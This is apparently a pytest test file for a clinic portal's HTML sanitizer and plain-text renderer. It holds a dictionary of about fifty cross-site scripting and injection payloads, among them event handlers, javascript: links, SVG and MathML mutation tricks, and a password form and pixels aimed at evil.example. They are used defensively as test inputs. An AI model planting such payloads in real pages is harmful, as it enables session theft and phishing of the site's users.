"""Rich text of staff: what is kept of it, what never is, and how it reads as plain text."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic_portal.forms.richtext import REL, TAGS, clean, text_of

HOSTILE = {
    "a script": "<p>a</p><script>alert(1)</script>",
    "a script in capitals, half closed": "<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>a",
    "a script inside a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "an event handler": '<p onclick="alert(1)">a</p>',
    "an event handler on a picture": '<img src="/pictures/a1" onerror="alert(1)">',
    "an event handler after a slash": "<p/onmouseover=alert(1)>a</p>",
    "a link to a script": '<a href="javascript:alert(1)">a</a>',
    "a link to a script with a tab in it": '<a href="java&#9;script:alert(1)">a</a>',
    "a link to a script after a blank": '<a href=" &#1; javascript:alert(1)">a</a>',
    "a link to a script in entities": '<a href="&#106;avascript&colon;alert(1)">a</a>',
    "a link to data": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "a link without a scheme": '<a href="//evil.example/">a</a>',
    "a picture of data": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "a picture of another host": '<img src="https://evil.example/pixel.gif">',
    "a picture of another host without a scheme": '<img src="//evil.example/pixel.gif">',
    "a picture outside its folder": '<img src="/pictures/../portal/sign-out">',
    "a picture outside its folder in entities": '<img src="/pictures/%2e%2e/portal">',
    "a picture with a query": '<img src="/pictures/a?next=https://evil.example">',
    "a picture in a set": '<img src="/pictures/a" srcset="https://evil.example/a 2x">',
    "a drawing": "<svg onload=alert(1)><circle/></svg>",
    "a script in a drawing": "<svg><script>alert(1)</script></svg>",
    "a link in a drawing": '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    "a style": "<style>p{background:url(https://evil.example)}</style><p>a</p>",
    "a style on a tag": '<p style="position:fixed;inset:0">a</p>',
    "a class and an id": '<p class="modal" id="root">a</p>',
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a frame with a page in it": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="https://evil.example"></object><embed src="https://evil.example">',
    "a form": '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
    "a base": '<base href="https://evil.example/"><p>a</p>',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>a</p>',
    "a comment": "<!--[if IE]><script>alert(1)</script><![endif]--><p>a</p>",
    "a title that closes itself": "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "a noscript that closes itself": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a mutation through math": '<math><mtext><table><mglyph><style><!--</style><i t="--&gt;&lt;img src onerror=a&gt;">',
    "a mutation through forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a mutation through svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "a mutation through a table": "<a><table><tr><td><a href=javascript:alert(1)>a</a></table>b</a>",
    "a template": "<template><script>alert(1)</script></template>",
    "quotes that end early": '<img src="/pictures/a" alt="a&quot; onerror=&quot;alert(1)">',
    "a tag within words of a picture": '<img src="/pictures/a" alt="<img src=x onerror=alert(1)>">',
    "a tag within an address": '<a href="https://a.example/<img src=x onerror=alert(1)>">a</a>',
    "nothing but opened tags": "<" * 60_000,
    "sixty thousand ampersands": "&" * 60_000,
    "lists in lists in lists": "<ul><li>" * 7_500,
    "quotes in quotes": "<blockquote>" * 5_000,
    "links in tables in links": "<a href='https://a.example'><table>" * 1_700,
    "a zero byte": "<p>a\0b</p><scr\0ipt>alert(1)</scr\0ipt>",
}


class Seen(HTMLParser):
    """Every tag of a text with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def is_harmless(html: str) -> bool:
    """Whether there is nothing in it but the allowed tags, with the allowed attributes."""
    seen = Seen(html)
    return not seen.others and all(_is_allowed(tag, told) for tag, told in seen.tags)


def _is_allowed(tag: str, told: dict[str, str | None]) -> bool:
    if tag == "a":
        starts = ("http://", "https://", "mailto:", "tel:")
        return set(told) == {"href", "rel"} and (told["href"] or "").lower().startswith(starts) and told["rel"] == REL
    if tag == "img":
        source = told.get("src") or ""
        return set(told) == {"src", "alt"} and source.startswith("/pictures/") and ".." not in source
    return tag in TAGS and not told


@pytest.mark.req("S43")
@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_hostile_is_kept(html: str) -> None:
    told = clean(html)
    assert is_harmless(told)
    assert "alert(1)" not in "".join(str(one) for one in Seen(told).tags if one[0] != "img")


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_was_cleaned_stays_as_it_is_when_cleaned_again(html: str) -> None:
    once = clean(html)
    assert clean(once) == once


_PIECES = [
    "<p>",
    "</p>",
    "<a>",
    "<a href='https://a.example/'>",
    "</a>",
    "<table>",
    "<tr>",
    "<td>",
    "</table>",
    "<svg>",
]
_PIECES += [
    "<math>",
    "<mtext>",
    "</math>",
    "<style>",
    "</style>",
    "<!--",
    "-->",
    "<form>",
    "</form>",
    "<img src=x>",
    "&lt;",
]
_PIECES += [
    '<img src="/pictures/a" alt="',
    '">',
    "<ul>",
    "<li>",
    "</ul>",
    "<b>",
    "<em>",
    "</em>",
    "<select>",
    "<option>",
    "x",
]
_PIECES += [
    "<script>",
    "</script>",
    "<title>",
    "</title>",
    "<noscript>",
    "<mglyph>",
    "<button>",
    "<h3>",
    "</h3>",
    "\0",
    "&",
]


@given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
def test_any_nest_of_tags_comes_out_harmless_and_stays_so(html: str) -> None:
    told = clean(html)
    assert is_harmless(told)
    assert clean(told) == told


@given(st.text(max_size=200))
def test_any_text_comes_out_harmless_and_stays_so(text: str) -> None:
    told = clean(text)
    assert is_harmless(told)
    assert clean(told) == told


def test_honest_text_is_kept_to_the_letter() -> None:
    html = (
        "<h2>After</h2><h3>Today</h3><p>Stay <strong>upright</strong>, <em>please</em>, for <u>four</u> hours.<br>"
        "It’s 皮肤 &amp; more.</p><ul><li>One</li><li>Two<ol><li>In</li></ol></li></ul><blockquote>Call.</blockquote>"
        '<p><img src="/pictures/Ab-9_x.webp" alt="A cool pack on a cheek"></p>'
    )
    assert clean(html) == html


@pytest.mark.parametrize(
    "address", ["https://lumen.example/a?b=1", "http://a.example", "mailto:a@b.example", "tel:+1512"]
)
def test_a_link_is_kept_and_tells_its_target_nothing(address: str) -> None:
    assert clean(f'<a href="{address}" target="_blank">us</a>') == f'<a href="{address}" rel="{REL}">us</a>'


def test_blanks_around_an_address_go() -> None:
    assert clean('<img src=" /pictures/a1 " alt="a">') == '<img src="/pictures/a1" alt="a">'


def test_a_link_that_may_not_stay_leaves_its_words() -> None:
    assert clean('<p>See <a href="/portal/forms">this <em>page</em></a>.</p>') == "<p>See this <em>page</em>.</p>"


def test_a_picture_without_words_gets_an_empty_description() -> None:
    assert clean('<img src="/pictures/a1">') == '<img src="/pictures/a1" alt="">'


@pytest.mark.req("S45")
def test_rich_text_reads_well_as_plain_text() -> None:
    html = """
      <h3>After   your visit</h3>
      <p>Stay <strong>up</strong> for
      four hours.<br>Call <a href="tel:+15125550100">us</a>.</p>
      <ul><li>No gym</li><li><p>No sauna</p><ul><li>nor steam</li></ul></li></ul><ol><li>Rest</li><li>Drink</li></ol>
      <blockquote>5 &lt; 6 &amp; true</blockquote><p><img src="/pictures/a1" alt="A cool pack"></p>
    """
    assert text_of(html).split("\n") == [
        "After your visit",
        "",
        "Stay up for four hours.",
        "Call us (+15125550100).",
        "",
        "- No gym",
        "- No sauna",
        "  - nor steam",
        "",
        "1. Rest",
        "2. Drink",
        "",
        "5 < 6 & true",
        "",
        "[A cool pack]",
    ]


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ('<a href="https://a.example/b">https://a.example/b</a>', "https://a.example/b"),
        ('<a href="https://a.example/b">our page</a>', "our page (https://a.example/b)"),
        ('<a href="tel:+15125550100">(512) 555-0100</a>', "(512) 555-0100"),
        ('<a href="tel:+15125550100">desk 2</a>', "desk 2 (+15125550100)"),
        ('<a href="mailto:us@a.example">us@a.example</a>', "us@a.example"),
        ("<p>a</p><script>b</script>", "a"),
        ("<p> </p>", ""),
        ("", ""),
    ],
)
def test_links_and_nothings_in_plain_text(html: str, text: str) -> None:
    assert text_of(html) == text


def test_lists_in_lists_do_not_make_a_mountain_of_blanks() -> None:
    assert len(text_of("<ul><li>" * 7_500)) < 100_000
